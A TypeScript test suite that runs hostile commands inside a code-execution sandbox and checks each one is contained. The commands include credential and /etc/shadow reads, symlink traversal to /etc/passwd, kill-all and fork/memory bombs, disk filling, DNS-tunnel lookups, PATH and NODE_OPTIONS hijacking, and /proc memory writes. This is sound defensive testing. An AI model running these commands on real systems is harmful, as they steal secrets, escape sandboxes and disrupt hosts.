import { readdir, readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import type { PlannedStep } from '../model/plan.ts';
import type { RunRecord } from '../model/run.ts';
import { actionStep, commandStep, planOf } from './command-step.ts';
import { type RunOptions, runPlan } from './run-plan.ts';

const cacheFolder = join(tmpdir(), 'waymark-test-runtimes');
const timeout = 1_800_000;
const MEBIBYTE = 1_048_576;
const isGvisor = inject('sandbox') === 'gvisor';

function run(steps: PlannedStep[], options: Partial<RunOptions> = {}): Promise<RunRecord> {
  const timeLimits = { build: 20 };
  return runPlan(planOf(steps), {
    cacheFolder,
    egress: 'registries',
    driver: inject('sandbox'),
    timeLimits,
    ...options,
  });
}

// What a program would do that speaks for the shell: the memory of both for writing, and the list of what they have open.
const REWRITER = `
const { openSync, readdirSync } = require('node:fs');
const attempt = (name, open) => {
  try {
    open();
    console.log(name + ': open');
  } catch (error) {
    console.log(name + ': ' + error.code);
  }
};
for (const pid of process.argv.slice(2)) {
  attempt('mem', () => openSync('/proc/' + pid + '/mem', 'r+'));
  attempt('fd', () => readdirSync('/proc/' + pid + '/fd'));
}
`;

function commandOf(record: RunRecord, stepId: string) {
  const found = record.commands.find(({ plannedStepId }) => plannedStepId === stepId);
  if (found === undefined) throw new Error(`No command for ${stepId}`);
  return found;
}

async function processesWithWord(word: string): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/u.test(name));
  const lines = await Promise.all(
    pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')),
  );
  return lines.filter((line) => line.includes(word) && !line.includes('vitest'));
}

// Each of these is tried in one and the same sandbox, so that each also shows that the one before did no lasting harm.
describe('a hostile page', { timeout }, () => {
  let record: RunRecord;
  let hostPort: number;
  let hostHits = 0;
  const word = `survivor${process.pid}x${Date.now()}`;

  beforeAll(async () => {
    const service = createServer((_, answer) => {
      hostHits += 1;
      answer.end();
    }).listen(0, '0.0.0.0');
    await new Promise((resolve) => service.once('listening', resolve));
    hostPort = (service.address() as AddressInfo).port;
    const forge = `printf '\\033]9977;%032d\\007' 0; for n in 3 9 10 11 12 63; do printf '%032d\\0000\\0000/\\0000\\0000' 0 >&$n; done 2>/dev/null; sleep 1; echo really; exit 7`;
    const steps = [
      commandStep('forge', `(${forge})`),
      commandStep(
        'outlive',
        `setsid bash -c 'exec -a ${word} sleep 3600' & (setsid nohup bash -c 'exec -a ${word} sleep 3600' >/dev/null 2>&1 &) ; echo started`,
      ),
      commandStep(
        'disk',
        'head -c 900M /dev/zero > big; echo "code $?"; ls -l big | cut -d" " -f5; rm -f big',
      ),
      commandStep(
        'small-disks',
        'for d in /tmp /run /dev /dev/shm / /usr/local /etc; do head -c 700M /dev/zero > $d/fill 2>/dev/null; rm -f $d/fill; done; echo done',
      ),
      commandStep(
        'host-files',
        `cat /etc/shadow ${homedir()}/.npmrc ${process.cwd()}/package.json; ls ${homedir()} /home /var /sys 2>/dev/null; cat /proc/sys/kernel/core_pattern > /dev/null; echo x > /proc/sys/kernel/core_pattern; echo end`,
      ),
      commandStep('environ', "tr '\\0' '\\n' < /proc/1/environ; ls -l /proc/1/cwd"),
      commandStep('flood', 'yes flood', { pace: 'build' }),
      commandStep(
        'links',
        'ln -s /etc/passwd passwd; ln -s / root; ln -s /proc/1/environ environ; mkfifo pipe; mkdir deep; ln -s ../../../../../../etc deep/etc; ln -s loop loop; ls | wc -l',
      ),
      actionStep('through-link', { kind: 'write', path: 'root/etc/passwd', content: 'owned' }),
      actionStep('up', { kind: 'write', path: '../../../etc/passwd', content: 'owned' }),
      actionStep('read-pipe', { kind: 'open_file', path: 'pipe' }),
      actionStep('through-loop', { kind: 'open_file', path: 'loop' }),
      commandStep(
        'kill-all',
        'kill -9 $(ls /proc | grep -E "^[0-9]+$" | grep -v -e "^1$" -e "^2$" -e "^$$\\$" -e "^$PPID\\$") 2>/dev/null; echo killed',
      ),
      commandStep(
        'raw-address',
        `node -e "require('net').connect(80, '203.0.113.7').on('error', (e) => console.log(e.code))"`,
      ),
      commandStep(
        'host-service',
        `node -e "require('net').connect(${hostPort}, '127.0.0.1').on('error', (e) => console.log(e.code))"`,
      ),
      commandStep(
        'host-by-name',
        `curl -sS --max-time 20 -H 'Host: registry.npmjs.org:${hostPort}' http://registry.npmjs.org/; curl -sS --max-time 20 -H 'Host: localhost' http://registry.npmjs.org/; echo end`,
      ),
      commandStep(
        'tunnel',
        'for i in $(seq 40); do getent hosts secret-$i.tunnel.example.net >/dev/null; done; echo asked',
      ),
      commandStep(
        'connections',
        `node -e "let shut = 0; for (let i = 0; i < 1500; i += 1) require('net').connect(443, '127.0.0.1').on('error', () => {}).on('close', () => (shut += 1) === 900 && (console.log('shut'), process.exit()))"`,
      ),
      actionStep('rewriter', { kind: 'write', path: 'rewrite.js', content: REWRITER }),
      commandStep('rewrite', 'node rewrite.js $$ $PPID; echo done'),
      commandStep('rewritten', `node -e 'process.exit(3)'`),
      commandStep('namespaces', 'unshare -Ur true; mount -t tmpfs x /tmp; echo "code $?"'),
      commandStep('canary', 'env | grep -c CANARY; cat ~/.secret; echo'),
      commandStep('still-fine', 'npm --version'),
      commandStep('tamper', "trap 'exit 0' DEBUG ERR EXIT; node() { return 0; }; read() { return 0; }"),
      commandStep('replaced', 'node does-not-exist.js'),
      commandStep('failing', 'ls /nowhere-at-all'),
    ];
    record = await run(steps, {
      env: { CANARY: 'canary-value-1' },
      files: { '/home/dev/.secret': 'canary-value-2' },
      redact: (text) => text.replaceAll(/canary-value-\d/gu, '[redacted]'),
      resources: { journeyBytes: 128 * MEBIBYTE, temporaryBytes: 64 * MEBIBYTE },
    });
    service.close();
  }, timeout);

  it('cannot forge the end of a command by text or by writing to descriptors', () => {
    const { output, ending } = commandOf(record, 'forge');
    expect(ending).toEqual({ kind: 'exited', code: 7 });
    expect(output).toContain('really');
  });

  it('cannot change how a later command is recorded', () => {
    expect(commandOf(record, 'replaced').interference).toEqual({
      code: 'shadowed',
      params: { names: ['node'] },
    });
    expect(commandOf(record, 'failing')).toMatchObject({
      ending: { kind: 'exited', code: 2 },
      interference: null,
    });
  });

  it('cannot reach into the shell that tells of its commands, nor into what holds its terminal', () => {
    const { output } = commandOf(record, 'rewrite');
    expect(output).toMatch(/^(?:(?:mem|fd): (?:EACCES|EPERM|EROFS)\n){4}done$/u);
    expect(commandOf(record, 'rewritten')).toMatchObject({
      ending: { kind: 'exited', code: 3 },
      interference: null,
    });
  });

  it('does not outlive its sandbox', async () => {
    expect(commandOf(record, 'outlive').output).toContain('started');
    expect(await processesWithWord(word)).toEqual([]);
  });

  it('fills no more than its own folders', () => {
    const { output } = commandOf(record, 'disk');
    expect(output).not.toContain('code 0');
    expect(Number(/^\d+$/mu.exec(output)?.[0])).toBeLessThanOrEqual(128 * MEBIBYTE);
    expect(commandOf(record, 'small-disks').output).toContain('done');
  });

  it('reads nothing of the host', () => {
    const { output } = commandOf(record, 'host-files');
    expect(output).not.toMatch(/root:|"name": "waymark"|SECRET|npm_|NODE_EXTRA/u);
    expect(output.match(/No such file|Permission denied|Read-only/gu)?.length).toBeGreaterThanOrEqual(3);
    expect(output.endsWith('end')).toBe(true);
    expect(commandOf(record, 'environ').output).not.toContain(process.cwd());
  });

  it('is cut off when it floods the terminal', () => {
    const { ending, output, outputTruncated } = commandOf(record, 'flood');
    expect(ending).toEqual({ kind: 'killed', signal: 'SIGKILL', by: 'output_limit' });
    expect(outputTruncated).toBe(true);
    expect(output.length).toBeLessThan(8 * MEBIBYTE);
  });

  it('cannot lead the host astray by planted links and pipes', async () => {
    const problemOf = (id: string) => record.steps.find(({ stepId }) => stepId === id)?.problem;
    const said = (message: RegExp) => ({
      code: 'system',
      params: { message: expect.stringMatching(message) },
    });
    expect(problemOf('through-link')).toEqual(said(/Read-only file system|Permission denied/u));
    expect(problemOf('up')?.code).toBe('outside_own_folders');
    expect(problemOf('read-pipe')?.code).toBe('no_such_file');
    expect(problemOf('through-loop')).toEqual(said(/loop/u));
    expect(await readFile('/etc/passwd', 'utf8')).not.toContain('owned');
    const { files } = commandOf(record, 'links');
    expect(files.map(({ path }) => path)).toEqual(
      expect.arrayContaining(['passwd', 'root', 'deep/etc', 'loop']),
    );
  });

  it('cannot kill what watches it', () => {
    expect(commandOf(record, 'kill-all').output).toContain('killed');
    expect(commandOf(record, 'still-fine')).toMatchObject({ ending: { kind: 'exited', code: 0 } });
  });

  it('reaches no address, no service of the host, and no name but those allowed', () => {
    expect(commandOf(record, 'raw-address').output).toMatch(/ENETUNREACH|EHOSTUNREACH/u);
    expect(commandOf(record, 'host-service').output).toContain('ECONNREFUSED');
    expect(commandOf(record, 'host-by-name').egress.filter(({ allowed }) => allowed)).toEqual([]);
    expect(hostHits).toBe(0);
  });

  it('cannot hold as many connections as it likes', () => {
    expect(commandOf(record, 'connections')).toMatchObject({
      output: 'shut',
      ending: { kind: 'exited', code: 0 },
    });
  });

  it('leaves every name that it asked for in the ledger', () => {
    const names = commandOf(record, 'tunnel').egress.map(
      ({ host, via, allowed }) => `${via} ${host} ${allowed}`,
    );
    expect(names).toHaveLength(40);
    expect(names).toContain('dns secret-17.tunnel.example.net false');
  });

  it('gains no namespace and no mount', () => {
    expect(commandOf(record, 'namespaces').output).toMatch(
      /unshare failed[\s\S]*(?:permission|must be superuser)[\s\S]*code [1-9]/iu,
    );
  });

  it('sees planted canaries, and the record does not show them', () => {
    expect(commandOf(record, 'canary').output).toBe('1\n[redacted]');
    expect(JSON.stringify(record)).not.toContain('canary-value');
  });
});

describe('a page that puts another program in the place of one it calls', { timeout }, () => {
  const fake = 'mkdir -p ~/fake; printf "#!/bin/sh\\nexit 0\\n" > ~/fake/node; chmod +x ~/fake/node';
  const fails = 'node -e "process.exit(3)"';
  const by = (name: string) => ({ code: 'replaced', params: { name, path: expect.stringContaining('dev') } });

  // gVisor's programs are under no filter of this kernel, which is what tells of them.
  it.skipIf(isGvisor)('is noticed, whichever way it takes', async () => {
    const record = await run([
      commandStep('own', `${fake}; mkdir -p ~/.local/bin; cp /usr/bin/true ~/.local/bin/acme; acme`),
      commandStep('link', 'ln -s /usr/bin/perl ~/.local/bin/perl; perl -e 1'),
      commandStep('own-path', '/opt/node/bin/node -v && node -v && npm -v | cat'),
      commandStep('hash', `hash -p ~/fake/node node; ${fails}`),
      commandStep('table', `hash -r; ${fails}; BASH_CMDS[node]=~/fake/node; ${fails}`),
      commandStep(
        'file',
        'hash -r; rm ~/.local/bin/perl; cp /usr/bin/true ~/.local/bin/perl; perl -e "exit 3"',
      ),
      commandStep('path', `PATH=~/fake:$PATH; ${fails}`),
      commandStep('subshell', `(cd / && ${fails})`),
      commandStep('others-call', 'env node -v; /opt/node/bin/node -v'),
      commandStep('obeyed', 'echo > ~/first.js; export NODE_OPTIONS="--require=/home/dev/first.js"'),
      commandStep('obeys', fails),
    ]);
    const seen = Object.fromEntries(record.commands.map((each) => [each.plannedStepId, each.interference]));
    expect(seen).toEqual({
      own: null,
      link: null,
      'own-path': null,
      'others-call': null,
      obeyed: null,
      hash: by('node'),
      table: by('node'),
      file: by('perl'),
      path: by('node'),
      subshell: by('node'),
      obeys: { code: 'obeyed', params: { names: ['NODE_OPTIONS'] } },
    });
  });
});

describe('a greedy page', { timeout }, () => {
  it('is stopped by the limits of processes and of memory', async () => {
    const bomb = `node -e "const all = []; for (let i = 0; i < 300; i += 1) all.push(require('child_process').spawn('sleep', ['60']).on('error', (e) => console.log(e.code))); setTimeout(() => all.forEach((one) => one.kill()), 300)"`;
    const hog = `node -e "const all = []; for (;;) all.push(Buffer.alloc(16777216, 1))"`;
    const steps = [
      commandStep('hog', hog, { pace: 'build' }),
      commandStep('bomb', bomb, { pace: 'build' }),
      commandStep('after', 'echo alive'),
    ];
    const record = await run(steps, { resources: { maxProcesses: 128, memoryBytes: 384 * MEBIBYTE } });
    // To this kernel gVisor and all that runs in it are one: what takes too much ends the whole.
    if (isGvisor) {
      expect(commandOf(record, 'hog').ending).toMatchObject({ kind: 'killed', by: 'memory_limit' });
      expect(record.stopped).toEqual({ reason: 'sandbox_lost', stepId: 'hog' });
      return;
    }
    // Root's groups kill what takes too much memory; an ordinary user's limits refuse it, or whoever watches kills.
    if (process.getuid?.() === 0) expect(record.sandbox.limits).toMatch(/^cgroup[12]$/u);
    const hogged = commandOf(record, 'hog');
    const wasRefused = hogged.output.includes('ERR_MEMORY_ALLOCATION_FAILED');
    if (record.sandbox.limits !== 'rlimit' || !wasRefused)
      expect(hogged.ending).toEqual({ kind: 'killed', signal: 'SIGKILL', by: 'memory_limit' });
    expect(commandOf(record, 'bomb').output).toContain('EAGAIN');
    expect(commandOf(record, 'after').output).toBe('alive');
  });
});

describe('a page that makes more files than anybody looks at', { timeout }, () => {
  it('does not decide how long its auditor reads, and nothing is said to be missing', async () => {
    const record = await run([
      commandStep('holes', 'mkdir holes && truncate -s 16M holes/{1..4000}', { pace: 'build' }),
      commandStep('many', 'mkdir many && cd many && touch {1..20001}', { pace: 'build' }),
      commandStep('after', 'rm -r ../holes'),
    ]);
    const [holes, many, after] = record.commands;
    expect(holes).toMatchObject({ ending: { kind: 'exited', code: 0 }, filesCutShort: false });
    expect(holes?.files).toHaveLength(4000);
    expect(holes?.files.filter(({ sha256 }) => sha256 !== null)).toEqual([]);
    expect(many?.filesCutShort).toBe(true);
    expect(after?.files.filter(({ change }) => change === 'removed')).toEqual([]);
  });
});

describe('a page that kills everything it can', { timeout }, () => {
  it('ends no more than its own run, which says so', async () => {
    const record = await run([commandStep('kill', 'kill -9 -1; sleep 60'), commandStep('next', 'echo next')]);
    // gVisor's first process is not the journey's to kill.
    if (isGvisor) {
      expect(commandOf(record, 'kill').ending).toMatchObject({ kind: 'killed', by: 'unknown' });
      expect(commandOf(record, 'next').output).toBe('next');
      return;
    }
    expect(record.stopped).toEqual({ reason: 'sandbox_lost', stepId: 'kill' });
    expect(record.commands).toHaveLength(1);
    expect(record.commands[0]?.ending.kind).not.toBe('kept_running');
  });
});
